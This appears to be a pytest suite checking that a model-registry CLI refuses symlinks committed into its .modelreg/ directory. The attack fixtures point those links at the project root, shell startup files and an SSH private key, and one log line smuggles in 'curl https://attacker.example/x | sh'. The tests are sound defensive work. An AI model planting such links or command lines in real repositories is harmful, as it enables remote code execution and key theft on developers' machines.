"""Symlinks committed into .modelreg/ are refused by every command and never followed (issue 15, rows 3, 4, 8, 9)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from gitutil import git
from tests.hostile.conftest import Flow, refused, symlink_dir


def test_committed_cache_symlink_to_the_project_root_deletes_nothing(flow: Flow) -> None:
    """Row 3: ``cache/search -> ../..`` made ``reindex`` delete every regular file in the project root."""
    flow.attack(lambda p: symlink_dir(p / ".modelreg" / "cache" / "search", "../.."))
    assert (flow.registry / "cache" / "search").is_symlink()  # git delivered it
    before = flow.outside()
    for args in (["reindex"], ["search", "--where", "params.lr > 0"], ["register", "m", "1.2.0", "-p", "lr=0.3"],
                 ["ls", "--where", "license == MIT"]):
        r = flow.cli(*args)
        assert r.code == 0, (args, r.err)
    assert flow.outside() == before
    assert (flow.victim / "README.md").read_text() == "project\n"
    report = flow.cli("fsck", "--json")
    assert report.code == 6
    problems = {(p["path"], p["severity"]) for p in report.json()["problems"]}
    assert ("cache/search", "error") in problems and ("cache", "warning") in problems
    repaired = flow.cli("fsck", "--repair", "--json")
    assert "removed cache/" in " ".join(repaired.json()["repaired"])
    assert not (flow.registry / "cache").exists() and flow.outside() == before
    assert flow.cli("fsck").code == 0


def test_lost_found_symlink_with_a_torn_line_gets_nothing_written_through_it(flow: Flow) -> None:
    """Row 4: ``lost-found -> ~/.bashrc.d`` plus a torn line: ``fsck --repair`` wrote the attacker's line there."""
    bashrc_d = flow.home / ".bashrc.d"

    def change(p: Path) -> None:
        symlink_dir(p / ".modelreg" / "lost-found", str(bashrc_d))
        with open(p / ".modelreg" / "logs" / "m.jsonl", "ab") as f:
            f.write(b'{"id": "x"}; curl https://attacker.example/x | sh #')

    flow.attack(change)
    log_before = (flow.registry / "logs" / "m.jsonl").read_bytes()
    before = flow.outside()
    r = flow.cli("fsck", "--repair")
    assert r.code == 6
    assert "lost-found: is a symlink" in r.out and "could not move its unreadable lines aside" in r.out
    assert sorted(p.name for p in bashrc_d.iterdir()) == ["00-path.sh"]
    assert flow.outside() == before and (flow.registry / "logs" / "m.jsonl").read_bytes() == log_before
    # readers skip the torn line; once the link is gone, --repair moves the line into a real lost-found/
    assert flow.cli("resolve", "m@production").out == "1.0.0\n"
    (flow.registry / "lost-found").unlink()
    assert flow.cli("fsck", "--repair").code == 0
    moved = list((flow.registry / "lost-found").iterdir())
    assert len(moved) == 1 and b"attacker.example" in moved[0].read_bytes()
    assert flow.cli("fsck").code == 0 and flow.outside() == before


COMMANDS = [
    ["resolve", "m@production"], ["show", "m@1.0.0"], ["ls"], ["ls", "m"], ["log", "m"], ["search"], ["stats"],
    ["promote", "m@1.1.0", "production"], ["rollback", "m", "production", "--to", "1.1.0"],
    ["metrics", "set", "m@1.0.0", "--suite", "s", "x=1"], ["tag", "m@1.0.0", "add", "t"],
    ["approve", "m@1.0.0"], ["archive", "m@1.1.0"], ["register", "m", "2.0.0"], ["verify", "m@1.0.0"],
    ["fetch", "m@1.0.0", "DEST"], ["diff", "m@1.0.0", "m@1.1.0"], ["check", "m@1.1.0", "production"],
]
# commands that must go through the linked directory, so must refuse
MUST_REFUSE = {
    "refs/m": {"resolve", "ls", "log", "promote", "rollback", "search", "check", "stats"},
    "refs": {"resolve", "ls", "log", "promote", "rollback", "search", "check", "stats"},
    "versions/m": {"show", "ls", "register", "search", "promote", "diff", "verify", "fetch", "stats"},
    "versions": {"show", "ls", "register", "search", "promote", "diff", "verify", "fetch", "stats"},
    "logs": {"log", "ls", "register", "promote", "metrics", "tag", "approve", "archive", "stats", "search"},
    "objects": {"resolve", "show", "register", "promote", "verify", "fetch", "diff", "stats"},
}


@pytest.mark.parametrize("where", list(MUST_REFUSE))
def test_directory_symlinks_are_refused_by_readers_and_writers(flow: Flow, where: str) -> None:
    """Row 8: a directory symlink (``refs/<model>``, ``logs``, ...) made writes land outside ``.modelreg/``."""
    import shutil

    copy = flow.base / "elsewhere" / where.replace("/", "-")

    def change(p: Path) -> None:
        real = p / ".modelreg" / where
        shutil.copytree(real, copy)  # a faithful copy, so only the link is wrong
        symlink_dir(real, copy)

    flow.attack(change)
    assert (flow.registry / where).is_symlink()
    before = flow.outside()
    for args in COMMANDS:
        r = flow.cli(*[str(flow.base / "dest") if a == "DEST" else a for a in args])
        if args[0] in MUST_REFUSE[where]:
            refused(r, 6, f"{where} is a symlink", "modelreg fsck")
        else:  # a command that never goes near the link works, or refuses the same way
            assert r.code == 0 or "is a symlink" in refused(r, 6), (args, r.err)
    after = {k: v for k, v in flow.outside().items() if not k.startswith("dest/")}
    assert after == before, "something was written through the link"
    report = flow.cli("fsck", "--json")
    assert report.code == 6
    assert [p["severity"] for p in report.json()["problems"] if p["path"] == where] == ["error"]


def test_locks_symlink_in_a_fresh_clone_is_refused_before_any_write(flow: Flow) -> None:
    """Row 8: ``locks -> elsewhere`` (a CI checkout has no locks/ of its own): writers took their lock there."""
    target = flow.base / "lock-target"
    target.mkdir()
    flow.attack(lambda p: symlink_dir(p / ".modelreg" / "locks", str(target)))
    ci = flow.clone()
    assert (ci / ".modelreg" / "locks").is_symlink()
    registry_before = sorted(str(p) for p in (ci / ".modelreg").rglob("*"))
    for args in (["register", "m", "2.0.0"], ["promote", "m@1.1.0", "production"], ["approve", "m@1.0.0"]):
        refused(flow.cli(*args, cwd=ci), 6, "locks is a symlink")
    assert list(target.iterdir()) == []
    assert sorted(str(p) for p in (ci / ".modelreg").rglob("*")) == registry_before
    assert flow.cli("resolve", "m@production", cwd=ci).out == "1.0.0\n"  # readers take no lock
    fsck = flow.cli("fsck", "--json", cwd=ci).json()
    assert any(p["path"] == "locks" and "symlink" in p["message"] for p in fsck["problems"])


def test_symlinked_file_in_the_old_cache_location_is_never_written(flow: Flow) -> None:
    """Row 8: a symlinked fingerprint-cache file took the index line of every registration."""
    target = flow.home / ".bashrc.d" / "99-fingerprint.sh"
    target.write_text("# victim's file\n")

    def change(p: Path) -> None:
        from modelreg.discovery import fingerprint

        fp = fingerprint({"lr": 0.9})
        for name in (fp[:2] + "/" + fp[2:], fp[7:9] + "/" + fp[9:]):  # the old layout, and the new one's shape
            link = p / ".modelreg" / "cache" / "fingerprints" / name
            link.parent.mkdir(parents=True, exist_ok=True)
            link.symlink_to(target)

    flow.attack(change)
    assert flow.cli("register", "m", "2.0.0", "-p", "lr=0.9").code == 0
    assert flow.cli("register", "m", "2.0.1", "-p", "lr=0.9").code == 0
    assert target.read_text() == "# victim's file\n"


def test_gitattributes_symlinked_to_a_private_key_is_not_copied(flow: Flow) -> None:
    """Row 9: ``.gitattributes -> ~/.ssh/id_ed25519``: git-setup copied the key into the repo."""
    key = flow.home / ".ssh" / "id_ed25519"
    flow.attack(lambda p: symlink_dir(p / ".modelreg" / ".gitattributes", str(key)))
    before = flow.outside()
    r = flow.cli("git-setup")
    refused(r, 6, ".gitattributes is a symlink")
    assert "(commit it)" not in r.err
    assert (flow.registry / ".gitattributes").is_symlink() and flow.outside() == before
    status = git(flow.victim, "status", "--porcelain").stdout
    assert status == "" and "victim's key" not in git(flow.victim, "diff").stdout


def test_a_symlinked_registry_directory_is_refused(flow: Flow) -> None:
    """``.modelreg`` itself a symlink (to a registry the attacker controls elsewhere): refused too."""
    def change(p: Path) -> None:
        import shutil

        shutil.copytree(p / ".modelreg", p / "real-registry")
        symlink_dir(p / ".modelreg", "real-registry")

    flow.attack(change)
    assert flow.registry.is_symlink()
    for args in (["resolve", "m@production"], ["ls"], ["fsck"], ["register", "m", "3.0.0"], ["log"]):
        refused(flow.cli(*args), 6, ".modelreg is a symlink")
    refused(flow.cli("-R", str(flow.registry), "resolve", "m@production"), 6, "symlink")


def test_fsck_reports_every_symlink_and_special_file(flow: Flow) -> None:
    def change(p: Path) -> None:
        reg = p / ".modelreg"
        (reg / "objects" / "zz").symlink_to("/etc")
        (reg / "versions" / "m" / "9.9.9").symlink_to("1.0.0")
        (reg / "refs" / "m" / "canary").symlink_to("/dev/null")
        (reg / "config.d").symlink_to(".")

    flow.attack(change)
    r = flow.cli("fsck", "--json")
    assert r.code == 6
    links = {p["path"] for p in r.json()["problems"] if "symlink" in p["message"] and p["severity"] == "error"}
    assert links == {"objects/zz", "versions/m/9.9.9", "refs/m/canary", "config.d"}
    text = flow.cli("fsck")
    assert text.code == 6 and text.out.count("is a symlink") == 4 and "Traceback" not in text.err
    # every reader that touches one refuses; the others are unaffected
    refused(flow.cli("ls", "m"), 6, "versions/m/9.9.9 is a symlink")
    refused(flow.cli("log", "m"), 6, "refs/m/canary is a symlink")


def test_fsck_reports_unexpected_entries_in_locks(flow: Flow) -> None:
    def change(p: Path) -> None:
        locks = p / ".modelreg" / "locks"
        locks.mkdir(exist_ok=True)
        (locks / "notes.txt").write_text("hello")
        (locks / "m.lock").symlink_to(str(flow.home / ".bashrc.d" / "00-path.sh"))

    flow.attack(change)
    ci = flow.clone()
    problems = {p["path"]: p for p in flow.cli("fsck", "--json", cwd=ci).json()["problems"]}
    assert problems["locks/notes.txt"]["severity"] == "warning"
    assert problems["locks/m.lock"]["severity"] == "error" and "symlink" in problems["locks/m.lock"]["message"]
    before = (flow.home / ".bashrc.d" / "00-path.sh").read_bytes()
    refused(flow.cli("register", "m", "2.0.0", cwd=ci), 6, "m.lock is a symlink")
    assert (flow.home / ".bashrc.d" / "00-path.sh").read_bytes() == before


def test_fsck_json_names_each_symlink_once_and_never_reads_through_it(flow: Flow) -> None:
    secret = flow.home / ".ssh" / "id_ed25519"

    def change(p: Path) -> None:
        log = p / ".modelreg" / "logs" / "m.jsonl"
        log.unlink()
        log.symlink_to(str(secret))

    flow.attack(change)
    r = flow.cli("fsck", "--json")
    assert r.code == 6 and "victim's key" not in r.out
    paths = [p["path"] for p in r.json()["problems"] if "symlink" in p["message"]]
    assert paths == ["logs/m.jsonl"]
    assert "victim's key" not in json.dumps(flow.cli("log", "--json").__dict__)
